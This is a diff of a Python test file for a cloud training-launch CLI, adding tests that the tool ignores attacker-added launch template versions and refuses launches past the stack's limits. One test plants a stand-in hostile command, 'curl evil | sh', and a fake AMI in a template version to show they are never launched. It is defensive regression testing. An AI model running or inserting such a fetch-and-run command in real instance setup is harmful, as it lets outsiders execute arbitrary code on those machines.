@@ -283,35 +283,36 @@ def test_an_on_demand_stack_launches_on_demand_unless_told_spot(deployed):
     assert default_instance.get("InstanceLifecycle") != "spot", "the stack's market unless told otherwise"
 
 
-def test_launch_uses_the_newest_template_version_even_when_the_default_stays_1(deployed):
-    """Issue 14: the local AWS keeps the default version at 1 after a deploy updates the template
-    (AWS moves it), so `launch` used a stale training_command. It now reads `$Latest`."""
+def test_a_version_someone_added_to_the_stack_template_is_never_launched_only_the_default_is(deployed):
+    """Issue 23: anyone with ec2:CreateLaunchTemplateVersion chose the AMI and user data of every later run,
+    because `launch` copied `$Latest`. The supervisor copies the default version: what the deploy made."""
     deployment = deployed("ca-central-1")
     ec2 = deployment.client("ec2")
     template_id = deployment.outputs[naming.OUTPUT_LAUNCH_TEMPLATE_ID]
-    [first] = ec2.describe_launch_template_versions(LaunchTemplateId=template_id, Versions=["$Latest"])[
+    [first] = ec2.describe_launch_template_versions(LaunchTemplateId=template_id, Versions=["$Default"])[
         "LaunchTemplateVersions"
     ]
-    updated = (
+    hijacked = (
         base64.b64decode(first["LaunchTemplateData"]["UserData"])
         .decode()
-        .replace("export TI_TRAINING_COMMAND='python train.py'", "export TI_TRAINING_COMMAND='python train_v2.py'")
+        .replace("export TI_TRAINING_COMMAND='python train.py'", "export TI_TRAINING_COMMAND='curl evil | sh'")
     )
-    assert "train_v2.py" in updated
+    assert "evil" in hijacked
     ec2.create_launch_template_version(
         LaunchTemplateId=template_id,
-        LaunchTemplateData={**first["LaunchTemplateData"], "UserData": base64.b64encode(updated.encode()).decode()},
-    )
-    assert (
-        ec2.describe_launch_templates(LaunchTemplateIds=[template_id])["LaunchTemplates"][0]["DefaultVersionNumber"]
-        == first["VersionNumber"]
+        LaunchTemplateData={
+            **first["LaunchTemplateData"],
+            "ImageId": "ami-0badbadbadbadbad0",
+            "UserData": base64.b64encode(hijacked.encode()).decode(),
+        },
     )
 
-    result = deployment.cli("launch", "--run-id", "launch-latest-version")
+    result = deployment.cli("launch", "--run-id", "launch-default-version")
 
     assert result.exit_code == 0, result.output
-    [instance] = deployment.run_instances("launch-latest-version")
-    assert _run_exports(deployment, instance["InstanceId"])["TI_TRAINING_COMMAND"] == "python train_v2.py"
+    [instance] = deployment.run_instances("launch-default-version")
+    assert _run_exports(deployment, instance["InstanceId"])["TI_TRAINING_COMMAND"] == "python train.py"
+    assert instance["ImageId"] == first["LaunchTemplateData"]["ImageId"]
 
 
 SECRET_ARN = "arn:aws:secretsmanager:us-east-1:123456789012:secret:training-infra/wandb-AbCdEf"
@@ -374,3 +375,26 @@ def test_launch_refuses_more_secrets_than_one_sts_session_policy_can_name_before
                             "Manager ARNs\n")  # fmt: skip
     fits = stacks.cli("launch", *argv[:8], env={"AWS_ENDPOINT_URL": "http://127.0.0.1:9"})
     assert fits.exit_code == 1, "four such references pass the check and go on to AWS (unreachable here)"
+
+
+@pytest.mark.parametrize(
+    ("args", "words"),
+    [
+        (("--max-runtime-hours", "0.0001"), "allowed: from 0.25 (boot 10 min + one checkpoint interval 300s)"),
+        (("--max-runtime-hours", "13"), "up to the stack's max_runtime_hours 12"),
+        (("--instance-types", "p5.48xlarge"), "allowed: the stack's allowed_instance_types g4dn.*"),
+    ],
+)
+def test_a_launch_past_the_stacks_limits_is_refused_in_one_line_and_starts_nothing(stacks, args, words):
+    run_id = f"limits-{len(args[1])}-{args[0][2:6]}"
+    result = stacks.cli("launch", "--run-id", run_id, *args)
+
+    assert result.exit_code == 2, result.output
+    assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1 and words in result.stderr
+    assert stacks.run_instances(run_id) == []
+    assert (
+        stacks.client("ec2").describe_launch_templates(
+            Filters=[{"Name": "launch-template-name", "Values": [f"training-infra-run-{run_id}"]}]
+        )["LaunchTemplates"]
+        == []
+    )
